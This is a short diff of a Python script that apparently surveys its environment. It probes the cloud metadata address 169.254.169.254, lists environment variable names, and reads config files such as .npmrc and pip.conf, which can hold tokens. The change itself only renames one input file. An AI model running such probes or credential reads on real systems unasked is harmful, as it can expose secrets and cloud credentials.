@@ -23,7 +23,7 @@ attempt("metadata", lambda: connect("169.254.169.254", 80))
 attempt("interfaces", lambda: socket.if_nameindex())
 report["environment"] = sorted(os.environ)
 report["settings"] = {}
-for path in ["/home/user/in/pip.conf", "/home/user/in/npmrc", "/home/user/in/ca.pem", "/home/user/in/wish.json", "/root/.npmrc",
+for path in ["/home/user/in/pip.conf", "/home/user/in/npmrc", "/home/user/in/ca.pem", "/home/user/in/request.json", "/root/.npmrc",
              os.path.expanduser("~/.npmrc"), os.path.expanduser("~/.config/pip/pip.conf"), os.environ.get("PIP_CONFIG_FILE", "")]:
     try:
         report["settings"][path] = open(path).read(300)
